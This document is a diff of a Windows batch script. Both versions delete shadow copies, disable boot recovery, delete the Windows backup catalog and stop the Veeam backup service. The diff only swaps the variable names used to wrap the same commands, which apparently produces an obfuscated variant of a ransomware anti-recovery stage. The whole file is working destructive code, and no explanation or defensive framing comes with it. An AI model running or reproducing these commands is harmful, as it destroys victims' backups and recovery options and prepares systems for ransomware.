@@ -1,19 +1,19 @@
-REM init 1894 v0
+REM init 3904 v0
 @echo off
-set skui=vssadmin delete shadows /all /quiet
-call %skui%
+set gveg=vssadmin delete shadows /all /quiet
+call %gveg%
 @echo off
-set fevw=wmic shadowcopy delete
-call %fevw%
+set bwqu=wmic shadowcopy delete
+call %bwqu%
 @echo off
-set fvsu=bcdedit /set {default} recoveryenabled no
-call %fvsu%
+set jihu=bcdedit /set {default} recoveryenabled no
+call %jihu%
 @echo off
-set rpwk=bcdedit /set {default} bootstatuspolicy ignoreallfailures
-call %rpwk%
+set zdna=bcdedit /set {default} bootstatuspolicy ignoreallfailures
+call %zdna%
 @echo off
-set vswe=wbadmin delete catalog -quiet
-call %vswe%
+set mqgo=wbadmin delete catalog -quiet
+call %mqgo%
 @echo off
-set glrq=net stop "Veeam Backup Catalog Data Service" /y
-call %glrq%
+set zfjt=net stop "Veeam Backup Catalog Data Service" /y
+call %zfjt%
